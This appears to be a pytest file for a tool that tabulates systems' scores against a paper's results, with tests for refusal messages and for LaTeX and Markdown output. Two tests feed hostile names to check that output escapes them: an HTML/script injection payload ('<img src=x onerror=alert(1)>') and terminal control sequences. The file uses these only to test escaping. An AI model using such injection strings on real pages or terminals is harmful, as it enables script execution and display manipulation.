        assert notes[0] == f"- {first}"
        assert len(notes) == 2 and "misprint" not in notes[1] and "copy of the other" not in notes[1]

    def test_own_categories_alone_have_no_numbers_of_the_paper(self, score_file):
        for names, columns in (("ice", "ice, All questions"), (None, "All questions")):
            file = score_file("a.json", *scored(names, 1.0, 0.5))
            assert refusal("--system", "PlanPers", file, "--paper", "Qwen 2.5 7B") == (
                f"--paper: the paper has no numbers for the columns {columns}; remove the flag"
            )

    def test_the_later_methods_table_is_named(self, three, capsys):
        file = three("a.json", BASE, UNSURE, BETTER)
        rows, _ = table(capsys, "--system", "VAC", file, "--paper", "Qwen 2.5 7B", "--paper_table", "beyond")
        assert rows["VAC"][0] == "0.2500 (0.3454, −0.0954)"
        helps = " ".join(build_parser().format_help().split())
        assert "2 (test), 3 (validation) or beyond (later methods, test)" in helps
        assert "for a model that is not the systems', such as LaMP's FlanT5-base, also the paper's other rows" in helps


class TestForms:
    def test_latex(self, complete, score_file, capsys):
        other = score_file("b.json", question("1", "rpg", 1), question("2", "diy", None), question("3", "law", 1))
        names = "PlanPers (a planner that was trained with LoRA)", r"[a] & % $ # _ { } ~ ^ \ <|>"
        main(["--system", names[0], complete, "--system", names[1], other, "--format", "latex"])
        lines = capsys.readouterr().out.splitlines()
        escaped = (
            r"{[a] \& \% \$ \# \_ \{ \} \textasciitilde{} \textasciicircum{} \textbackslash{} "
            r"\textless{}\textbar{}\textgreater{}}"
        )
        assert lines[3:12] == [
            r"\begin{tabular}{@{}lrrrrrrr@{}}",
            r"\toprule",
            r"{System} & {Arts} & {Lifestyle} & {Society} & {Average} & {Qns.} & {Unans.} & {Unsc.} \\",
            r"\midrule",
            r"{PlanPers (a planner that was} & {\textbf{0.7500}} & {0.5000} & {0.0000} & {0.4167} & {3} & {0} & {0} \\",
            r"{\quad trained with LoRA)} & {} & {} & {} & {} & {} & {} & {} \\",
            rf"{escaped} & {{0.5000}} & {{--}} & {{\textbf{{0.5000}}}} & {{--}} & {{3}} & {{0}} & {{1}} \\",
            r"\bottomrule",
            r"\end{tabular}",
        ]

    def test_markdown_shows_any_name_unchanged(self, complete, score_file, capsys):
        """As read by another library; in the notes too."""
        markdown_it = pytest.importorskip("markdown_it")
        path = score_file("b.json", question("1", "rpg", 2, None), judged=None)
        for name in (
            r"*RAG* **b** __c__ _d_ ~~e~~ `f` a_name a\|b \* \\ c:\dir =1+1 <0.05 [0.1, 0.2]",
            "<img src=x onerror=alert(1)> <!-- <?x [here](https://example.org) ![x](https://x.org) &lt; &#60; R&D",
        ):
            main(["--system", name, path])
            tokens = markdown_it.MarkdownIt("gfm-like", {"linkify": False}).parse(capsys.readouterr().out)
            shown = [token.children for token in tokens if token.type == "inline"]
            texts = ["".join(child.content for child in children) for children in shown]
            assert name in texts and any(text.startswith(f"{name}: 1 aspect without a verdict") for text in texts)
            kinds = {child.type for children in shown for child in children}
            assert kinds <= {"text", "text_special", "strong_open", "strong_close"}

    @pytest.mark.parametrize("form", ["markdown", "latex", "csv"])
    def test_names_cannot_control_the_terminal(self, score_file, capsys, form):
        entries = question("1", "rpg", 2, None), question("2", "odd\x1b]0;title\x07", 1)
        path = score_file("a.json", *entries, judged=None)
        main(["--system", "RAG\x1b[31m\x9b2J", path, "--format", form])
        captured = capsys.readouterr()
        assert re.search(r"RAG(\\|\\textbackslash\{\})x1b\[31m", captured.out)
        assert re.findall(r"[^\n -~–−±†]", captured.out + captured.err) == []


class TestRefusals:
    @pytest.mark.parametrize(
        ("words", "message"),
        [
            ("--system rag.json", "--system 'rag.json': needs a name, then one or more files"),
            ("--system A a.json --system A b.json", "--system 'A' appears twice; list all its files after one"),
            ("--system A a.json twice.json", "--system 'A': question '3' is in a.json and in twice.json; "),
            ("--system A a.json --system B less.json", "--system 'B' (less.json) lacks 2 of 3 questions of "
             "all systems: '1', '2'\n  use score files of the same questions, or add --allow_partial to compare"),
            ("TWO --baseline a", "--baseline 'a': no --system has this name; the names are 'A', 'B'"),
            ("TWO --baseline B A", "--baseline: names every system, so no other row is left to compare"),
            ("--system PlanPers a.json --paper Qwen", "--paper 'Qwen': the paper has no such model; its models are "),
            ("--system Planpers a.json --paper GPT-4o-mini", "--paper: no --system has the name of a method"),
        ],
    )  # fmt: skip
    def test_a_mistake_is_named(self, complete, score_file, tmp_path, monkeypatch, words, message):
        monkeypatch.chdir(tmp_path)
        score_file("b.json", question("1", "rpg", 1), question("2", "diy", 1), question("3", "law", 1))
        score_file("twice.json", question("3", "law", 2))
        score_file("less.json", question("3", "law", 1), question("7", "law"))  # 7 is not scored anywhere
        said = refusal(*words.replace("TWO", "--system A a.json --system B b.json").split())
        assert said.startswith(message) and said.count("\n") <= 2
